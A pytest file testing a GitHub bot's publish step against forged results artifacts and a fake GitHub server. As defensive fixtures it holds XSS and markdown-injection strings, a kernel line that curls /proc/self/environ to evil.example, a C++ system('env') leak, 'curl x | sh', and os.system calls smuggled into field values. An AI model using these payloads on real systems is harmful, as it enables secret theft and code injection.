"""Publish against a forged results artifact: the real ``publish`` with the real PyGithub client
against the fake GitHub server, in the pull-request world of tests/prflow.py, with results.json
written by hand the way an attacker's leftover process would rewrite it (no measuring needed).

What it must hold: where it writes comes from the event and the API only; a fork's pull request
gets no branch; every string of the artifact is inert markdown; a kernel that fails the gates is
neither pushed nor shown; sizes fit GitHub's limits.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from bot.detect.changes import ChangedModule, ChangeReport, SkippedFile
from bot.event import ActionsEnv, parse_event
from bot.github import GitHubRepo
from bot.markdown import BODY_LIMIT
from bot.pr.base_config import JudgingConfig
from bot.pr.comment import MARKER
from bot.pr.publish import publish
from bot.pr.results import Environment, PullResults, TargetSource
from bot.report import Report
from harness.errors import UserError
from harness.records import Check
from tests.fake_github import FakeGitHub
from tests.prflow import CLASS_LINE, NUMBER, REPO, ROOT, Project
from tests.rows import measured_row

KERNEL = (ROOT / "examples/candidates/fused_gelu_block_cpu.py").read_text()
TARGET = "models/act.py:Activation"
FOLLOWUP_REF = f"refs/heads/kernelpilot/pr-{NUMBER}"


@pytest.fixture
def project(tmp_path) -> Project:
    (tmp_path / "checkout").mkdir()
    return Project(tmp_path / "checkout")


def honest(project: Project, fork: bool = False, kernel: str = KERNEL) -> PullResults:
    """What measure writes for pull request 7 at its head: one improved module."""
    result = dict(
        device_name="x86_64",
        torch_version="2.13",
        input_summary="float32[32, 64, 1024]",
        checks=[Check(name="correct_outputs", passed=True, detail="5 seeds")],
    )
    row = measured_row(
        TARGET,
        eager_ms=2.0,
        compile_ms=None,
        candidate_ms=0.5,
        result_fields=result,
        kernel_source=kernel,
        plan="Fuse the chain.",
    )
    # fmt: skip
    module = ChangedModule(path="models/act.py", class_name="Activation", class_line=CLASS_LINE,
                           lines=[CLASS_LINE], reason="class body changed", target=TARGET,
                           target_source="config")  # fmt: skip
    changes = ChangeReport(base="main", head="feature", base_sha=project.base,
                           head_sha=project.head, merge_base=project.base, max_targets=20,
                           modules=[module])  # fmt: skip
    source = TargetSource(module_path="models/act.py", class_name="Activation",
                          inputs_fn="make_inputs", init_args=[1024])  # fmt: skip
    return PullResults(
        mode="pull_request", repository=REPO, pull_number=NUMBER, commit=project.head,
        base_ref="main", head_ref="feature", fork=fork, changes=changes,
        report=Report(targets=[row]), sources={TARGET: source},
        environment=Environment(torch="2.13", python="3.12", kernelpilot="test"),
        judged_by=JudgingConfig(commit=project.base, pyproject="pyproject.toml"), test_dir="tests",
    )  # fmt: skip


def run_publish(fake: FakeGitHub, tmp: Path, data: PullResults | dict, open_pr: bool = True):
    """publish as the job runs it, on this event, with ``data`` as the artifact."""
    folder = tmp / "artifact"
    folder.mkdir(exist_ok=True)
    raw = data if isinstance(data, dict) else data.model_dump(mode="json")
    (folder / "results.json").write_text(json.dumps(raw))
    event = parse_event("pull_request_target", fake.pull_event(REPO, NUMBER), REPO)
    env = ActionsEnv(repository=REPO, api_url=fake.base_url, server_url=fake.root, run_id="42",
                     summary_file=tmp / "summary.md", output_file=tmp / "output.txt")  # fmt: skip
    logged: list[str] = []
    github = GitHubRepo(fake.client("gh-token"), REPO)
    outcome = publish(event, env, folder, github, open_pr, logged.append)
    return outcome, logged


def comment(fake: FakeGitHub) -> str:
    [ours] = [c.body for c in fake.comments(REPO, NUMBER) if c.body.startswith(MARKER)]
    return ours


def pushed_anything(fake: FakeGitHub) -> bool:
    writes = [c.path for c in fake.calls("POST") + fake.calls("PATCH") if "/git/" in c.path]
    return bool(writes) or FOLLOWUP_REF in fake.repo(REPO).refs


# --- where publish writes: the event and the API, never the artifact -------------------------


@pytest.mark.parametrize(
    ("field", "forged"),
    [
        ("base_ref", "release"),
        ("head_ref", "main"),
        ("fork", True),  # a same-repository PR's artifact claiming to be a fork's: stale or forged
        ("commit", "f" * 40),
        ("pull_number", NUMBER + 1),
        ("judged_by", {"commit": "e" * 40, "pyproject": "pyproject.toml", "refused": []}),
    ],
)  # fmt: skip
def test_a_forged_artifact_naming_other_branches_or_commits_is_refused(
    project, fake_github, tmp_path, field, forged
):
    project.seed(fake_github)
    data = honest(project).model_dump(mode="json")
    data[field] = forged
    with pytest.raises(UserError, match="results are for"):
        run_publish(fake_github, tmp_path, data)
    assert fake_github.comments(REPO, NUMBER) == [] and not pushed_anything(fake_github)


def test_a_forks_artifact_claiming_fork_false_is_refused(project, fake_github, tmp_path):
    project.seed(fake_github, fork=True)
    with pytest.raises(UserError, match="results are for fork False"):
        run_publish(fake_github, tmp_path, honest(project, fork=False))
    assert not pushed_anything(fake_github)


def test_an_artifact_field_publish_does_not_know_is_refused(project, fake_github, tmp_path):
    project.seed(fake_github)
    data = honest(project).model_dump(mode="json") | {"into": "release"}
    with pytest.raises(UserError, match="results file is not valid"):
        run_publish(fake_github, tmp_path, data)


def test_a_same_repository_followup_is_made_on_the_api_head_into_the_prs_branch(
    project, fake_github, tmp_path
):
    project.seed(fake_github)
    outcome, _ = run_publish(fake_github, tmp_path, honest(project))
    assert outcome.followup_url and not outcome.problems
    repo = fake_github.repo(REPO)
    assert repo.commits[repo.refs[FOLLOWUP_REF]].parents == [project.head]
    [followup] = [i for i in repo.issues.values() if i.pull and i.pull.head_ref.startswith("kern")]
    assert followup.pull.base_ref == "feature"


def test_a_forks_pull_request_gets_a_patch_in_the_comment_and_no_branch(
    project, fake_github, tmp_path
):
    project.seed(fake_github, fork=True)
    outcome, logged = run_publish(fake_github, tmp_path, honest(project, fork=True))
    assert outcome.followup_url is None and not outcome.problems
    assert not pushed_anything(fake_github)
    assert all(i.pull is None or i.number == NUMBER for i in fake_github.repo(REPO).issues.values())
    body = comment(fake_github)
    assert "generated from this fork's unreviewed code" in body
    assert "diff --git a/models/act_kernelpilot.py b/models/act_kernelpilot.py" in body
    assert (
        "+class ActivationKernelpilot(_runtime.KernelpilotDropin, _sibling('act').Activation):"
        in body
    )
    assert any("comes from a fork" in line for line in logged)


def test_no_followup_when_the_api_says_the_head_moved_on(project, fake_github, tmp_path):
    project.seed(fake_github)
    event_payload = fake_github.pull_event(REPO, NUMBER)
    fake_github.push(REPO, "feature", {"models/act.py": "# newer\n"}, "newer")
    folder = tmp_path / "artifact"
    folder.mkdir()
    (folder / "results.json").write_text(honest(project).model_dump_json())
    event = parse_event("pull_request_target", event_payload, REPO)
    env = ActionsEnv(repository=REPO, api_url=fake_github.base_url)
    github = GitHubRepo(fake_github.client("gh-token"), REPO)
    outcome = publish(event, env, folder, github, True, print)
    assert outcome.followup_url is None and "moved on" in outcome.no_followup
    assert not pushed_anything(fake_github)
    assert "moved on" in comment(fake_github)


# --- every string is data ----------------------------------------------------------------------

HOSTILE = (
    "[click here](https://evil.example/login) ![pixel](https://evil.example/t.png) "
    "@acme/admins @octocat <img src=x onerror=alert(1)> <script>alert(1)</script> "
    "<a href='https://evil.example'>x</a> www.evil.example https://evil.example/raw "
    "acme/models#1 #2 | cell | ``` ~~~ **bold** $x$ &amp;"
)
URL_PARTS = ("](https://evil", "![pixel", "<img", "<script", "<a href", "https://evil", "www.evil", "@acme/admins",
             "@octocat", "models#1", " #2", "&amp;")  # fmt: skip


def outside_code(body: str) -> str:
    """What GitHub reads as markdown: without fenced blocks, code spans and backslash-escaped
    characters (all of which it shows as literal text)."""
    kept, fence = [], None
    for line in body.splitlines():
        stripped = line.strip()
        opening = re.match(r"`{3,}", stripped)
        if fence is None and opening:
            fence = opening.group(0)
        elif fence is not None and stripped == fence:
            fence = None
        elif fence is None:
            kept.append(re.sub(r"(`+) .*? \1", " ", re.sub(r"\\[^\w\s]", "", line)))
    assert fence is None, "a fenced block was left open"
    return "\n".join(kept)


def hostile(project: Project) -> dict:
    data = honest(project).model_dump(mode="json")
    row = data["report"]["targets"][0]
    for name in ("device", "reason", "plan", "proposer"):
        row[name] = HOSTILE
    for name in ("device", "device_name", "torch_version", "input_summary", "log"):
        row["result"][name] = HOSTILE
    row["result"]["timings"]["compile_baseline_error"] = HOSTILE
    row["result"]["checks"] = [{"name": HOSTILE, "passed": True, "detail": HOSTILE}]
    row["kernel_source"] = KERNEL + "\n# ```\n# " + HOSTILE + "\n" + "# ````````\n"
    # A status is one of TargetStatus's words (an unknown one is refused), not free text.
    failed = dict(row, target=HOSTILE, status="error", kernel_source="", reason="x" * 100_000)
    data["report"]["targets"].append(failed)
    module = data["changes"]["modules"][0]
    data["changes"]["modules"].append(
        dict(module, path=HOSTILE, class_name=HOSTILE, reason=HOSTILE, target=None,
             missing_config=HOSTILE, config_path=HOSTILE)
    )  # fmt: skip
    data["changes"]["skipped_files"] = [{"path": HOSTILE, "kind": "binary", "reason": HOSTILE}]
    data["environment"] = {"torch": HOSTILE, "cuda": HOSTILE, "python": HOSTILE,
                           "kernelpilot": HOSTILE}  # fmt: skip
    data["judged_by"]["refused"] = [HOSTILE]
    data["run_url"] = "https://evil.example/run"
    return data


def test_raw_markdown_in_every_string_field_is_shown_as_data(project, fake_github, tmp_path):
    project.seed(fake_github)
    outcome, _ = run_publish(fake_github, tmp_path, hostile(project))
    assert not outcome.problems and outcome.followup_url
    body = comment(fake_github)
    assert len(body) <= BODY_LIMIT and "characters shown, the rest cut" in body  # 100 KB of error
    shown = outside_code(body)
    for part in (*URL_PARTS, "https://evil.example/run"):
        assert part not in shown, part
    for line in body.splitlines():
        if line.startswith("| ` "):  # a table row: nine cells, whatever the text said
            assert len(cells(line)) == 9, line
    repo = fake_github.repo(REPO)
    [followup] = [i for i in repo.issues.values() if i.pull and i.pull.head_ref.startswith("kern")]
    [review] = repo.review_comments.values()
    for text in (followup.body, followup.title, review.body):
        for part in URL_PARTS:
            assert part not in outside_code(text), part
    verified = hostile(project)["report"]["targets"][0]["kernel_source"].rstrip("\n")
    for path, code in (("models/act_verified_kernelpilot.py", verified),
                       ("models/act_kernelpilot.py", "\nimport importlib\n")):  # fmt: skip
        kernel = fake_github.file(REPO, path, "kernelpilot/pr-7").decode()
        header, found, _ = kernel.partition(code)
        assert found and all(line.startswith("# ") for line in header.splitlines() if line), header


def cells(line: str) -> list[str]:
    """GFM's split of a table row: a backslash takes the next character with it."""
    found, cell, index, line = [], "", 0, line.strip().removeprefix("|")
    while index < len(line):
        if line[index] == "\\":
            cell, index = cell + line[index : index + 2], index + 2
        elif line[index] == "|":
            found, cell, index = [*found, cell], "", index + 1
        else:
            cell, index = cell + line[index], index + 1
    return found + ([cell] if cell.strip() else [])


VERDICT = {"speedup": 2.0, "noise_floor": 0.05, "faster": True, "slower": False,
           "needs_review": False}  # fmt: skip


@pytest.mark.parametrize(
    ("field", "value"),
    [("vs_eager.speedup", 48.0), ("timings.eager_beside.median_ms", float("nan")),
     ("timings.candidate.median_ms", -1.0), ("timings.eager_beside.iqr_ms", float("inf")),
     ("vs_compile", VERDICT), ("max_abs_error", -1.0), ("device_us.eager", -5.0),
     ("device_us.eager", float("nan"))],
)  # fmt: skip
def test_numbers_that_are_not_finite_or_contradict_the_times_are_refused(
    project, fake_github, tmp_path, field, value
):
    project.seed(fake_github)
    data = honest(project).model_dump(mode="json")
    *path, last = field.split(".")
    held = data["report"]["targets"][0]["result"]
    for part in path:
        held = held[part]
    held[last] = value
    folder = tmp_path / "artifact"
    folder.mkdir()
    (folder / "results.json").write_text(json.dumps(data))  # NaN as JSON's NaN
    with pytest.raises(UserError, match="not a finite number|without the times|its times give"):
        run_publish(fake_github, tmp_path, data)
    assert fake_github.comments(REPO, NUMBER) == []


@pytest.mark.parametrize(
    ("field", "value"),
    [("class_name", "Activation\nimport os"), ("inputs_fn", "f(); import os; os.system('x')"),
     ("dtype", "float32; import os"), ("init_args", [float("inf")])],
)  # fmt: skip
def test_names_that_would_go_into_the_followups_code_are_refused(
    project, fake_github, tmp_path, field, value
):
    project.seed(fake_github)
    data = honest(project).model_dump(mode="json")
    data["sources"][TARGET][field] = value
    with pytest.raises(UserError, match="results file is not valid"):
        run_publish(fake_github, tmp_path, data)


# --- kernels are gated again --------------------------------------------------------------------

EXFILTRATING = KERNEL.replace(
    "import torch\n",
    "import os\nimport torch\nos.system('curl https://evil.example -d @/proc/self/environ')\n",
    1,
)
NATIVE_EXFILTRATING = KERNEL.replace("#include <torch/extension.h>",
                                     '#include <torch/extension.h>\nstatic int leak = system("env");', 1)  # fmt: skip


@pytest.mark.parametrize("kernel", [EXFILTRATING, NATIVE_EXFILTRATING], ids=["python", "native"])
def test_an_ungated_kernel_is_neither_pushed_nor_shown(project, fake_github, tmp_path, kernel):
    assert kernel != KERNEL
    project.seed(fake_github)
    outcome, logged = run_publish(fake_github, tmp_path, honest(project, kernel=kernel))
    assert outcome.followup_url is None and not pushed_anything(fake_github)
    body = comment(fake_github)
    assert "refused by publish" in body and "checked this kernel again and refused it" in body
    assert "curl" not in body and 'system("env")' not in body
    assert any("kernel refused" in line for line in logged)
    assert fake_github.repo(REPO).review_comments == {}


def test_the_honest_kernel_passes_the_gates_in_publish():
    from bot.pr.trust import kernel_reasons

    assert kernel_reasons(KERNEL, "Activation", "float32") == []
    for path in sorted((ROOT / "tests/honest").glob("*/*.py")):
        assert kernel_reasons(path.read_text(), "Model", "float32") == [], path


def test_the_results_folder_on_the_import_path_is_refused(tmp_path, monkeypatch):
    from bot.pr.trust import check_import_path

    monkeypatch.syspath_prepend(str(tmp_path / "artifact"))
    with pytest.raises(UserError, match="on Python's import path"):
        check_import_path(tmp_path / "artifact")
    check_import_path(tmp_path / "elsewhere")


def test_skipped_files_of_hostile_names_are_listed_as_data():
    from bot.pr.comment import render_comment

    changes = ChangeReport(base="m", head="h", base_sha="a" * 40, head_sha="b" * 40,
                           merge_base="a" * 40, max_targets=1,
                           skipped_files=[SkippedFile(path=HOSTILE, kind="binary", reason=HOSTILE)])  # fmt: skip
    results = PullResults(mode="pull_request", repository=REPO, pull_number=1, commit="b" * 40,
                          changes=changes)  # fmt: skip
    shown = outside_code(render_comment(results))
    assert all(part not in shown for part in URL_PARTS)


def test_a_big_claim_asks_for_review_by_the_base_commits_threshold(tmp_path, fake_github):
    """The artifact says 48x needs no review (its own threshold 1000); the base says 10x."""
    from tests.prflow import PROJECT

    (tmp_path / "checkout").mkdir()
    project = Project(tmp_path / "checkout", project=PROJECT.replace("review_speedup = 1000", ""))
    project.seed(fake_github)
    data = honest(project).model_dump(mode="json")
    data["report"]["review_speedup"] = 1000.0
    result = data["report"]["targets"][0]["result"]
    result["timings"]["eager_beside"]["median_ms"] = 24.0
    result["vs_eager"].update(speedup=48.0, needs_review=False)
    run_publish(fake_github, tmp_path, data)
    assert "⚠️ faster, over 10x: review" in comment(fake_github)


MESSAGE = """        self.scale = scale
        if scale < 0:
            print("WARNING: a negative scale needs PyTorch >= 2.0")
"""
HOSTILE_CPP = repr('void f() { PyRun_SimpleString("import os"); }')


def test_a_message_in_the_constructor_is_not_read_as_cpp():
    """A string the module's copied constructor prints ("needs PyTorch >= 2.0", nanoGPT's
    attention) is not kernel source: only what load_inline compiles is gated as C++."""
    from bot.pr.trust import kernel_reasons

    source = KERNEL.replace("        self.scale = scale\n", MESSAGE, 1)
    assert "PyTorch" in source
    assert kernel_reasons(source, "Activation", "float32") == []


@pytest.mark.parametrize(
    ("old", "new"),
    [
        # load_inline under another name: its sources cannot be told, every string is checked
        ("from torch.utils.cpp_extension import load_inline",
         "from torch.utils.cpp_extension import load_inline as build"),
        # the source name bound twice: which text is compiled cannot be told
        ("_ext = load_inline(", "CPP_SOURCE = CPP_SOURCE + ''\n_ext = load_inline("),
        # the sources made by a call
        ("    cpp_sources=CPP_SOURCE,", "    cpp_sources=str(CPP_SOURCE),"),
    ],
)  # fmt: skip
def test_a_kernel_source_that_cannot_be_followed_has_every_string_gated(old, new):
    """Where the texts load_inline compiles cannot be followed to literals, every string of the
    file is read as C++ (a hostile string anywhere is refused), as before."""
    from bot.pr.trust import kernel_reasons

    source = KERNEL.replace(old, new, 1)
    assert source != KERNEL
    if "as build" in new:
        source = source.replace("_ext = load_inline(", "_ext = build(")
    hostile = source.replace(
        "        self.scale = scale\n", f"        self.note = {HOSTILE_CPP}\n", 1
    )
    reasons = kernel_reasons(hostile, "Activation", "float32")
    assert any("reaches into the Python interpreter" in reason for reason in reasons), reasons


def test_a_hostile_kernel_source_followed_to_its_literal_is_refused():
    from bot.pr.trust import kernel_reasons

    source = KERNEL.replace(
        'CPP_SOURCE = r"""', 'CPP_SOURCE = r"""\nvoid g() { PyRun_SimpleString("x"); }', 1
    )
    reasons = kernel_reasons(source, "Activation", "float32")
    assert any("reaches into the Python interpreter" in reason for reason in reasons), reasons


@pytest.mark.parametrize(
    ("imports", "call"),
    [
        (["from os import system"], "[system('curl x | sh')]"),
        (["from model import GPTConfig"], "[GPTConfig(n=__import__('os').system('x'))]"),
        (["from model import GPTConfig"], "[GPTConfig.__init__.__globals__]"),
        (["import os"], "[os]"),
        (["from model import GPTConfig; import os"], "[GPTConfig()]"),
    ],
)
def test_a_forged_constructor_call_never_reaches_the_followups_test(imports, call):
    """results.json is untrusted: a captured constructor call written into the follow-up's
    test is literals and calls of names imported from the target's own package only."""
    from pydantic import ValidationError

    with pytest.raises(ValidationError):
        TargetSource(module_path="model.py", class_name="MLP", init_imports=imports, init_call=call)
    ok = TargetSource(
        module_path="model.py", class_name="MLP", init_imports=["from model import GPTConfig"],
        init_call="[GPTConfig(n_embd=8, scale=-1.0)]", init_captured=True,
    )  # fmt: skip
    assert ok.constructible


@pytest.mark.parametrize(
    "arg",
    [
        {
            "tensor": {
                "shape": [2],
                "dtype": "float32), __import__('os').system('x'",
                "low": 0,
                "high": 1,
            }
        },
        {"tensor": {"shape": [2], "dtype": "randn", "low": 0, "high": 1}},
        {"tensor": {"shape": [2], "dtype": "float32", "low": float("nan"), "high": 1}},
        {"tensor": {"shape": [-1], "dtype": "float32", "low": 0, "high": 1}},
        {"value": float("inf")},
    ],
)
def test_forged_captured_inputs_never_reach_the_followups_test(arg):
    """A captured call's specs are written into the follow-up's test as code (torch.<dtype>,
    numbers by repr): only torch's dtypes and finite numbers pass results.json's check."""
    from pydantic import ValidationError

    with pytest.raises(ValidationError):
        TargetSource(module_path="model.py", class_name="MLP", captured_inputs=[arg])
